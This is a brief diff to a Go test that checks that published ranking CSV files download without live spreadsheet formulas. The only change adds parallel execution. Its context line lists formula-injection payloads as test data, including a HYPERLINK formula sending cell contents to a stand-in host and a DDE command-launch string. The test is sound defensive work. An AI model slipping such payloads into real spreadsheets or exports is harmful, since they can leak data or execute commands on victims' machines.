@@ -20,6 +20,7 @@ var formulas = []string{`=HYPERLINK("http://x?"&A1,"c")`, `+cmd|' /C calc'!A0`, 
 // a ranking file, approved and published, download as cells that start
 // with no formula character; the numbers stay numbers.
 func TestRankingCSVRunsNoFormula(t *testing.T) {
+	t.Parallel()
 	e := newAdminEnv(t)
 	const slug = "formulas"
 	f := demo.File()
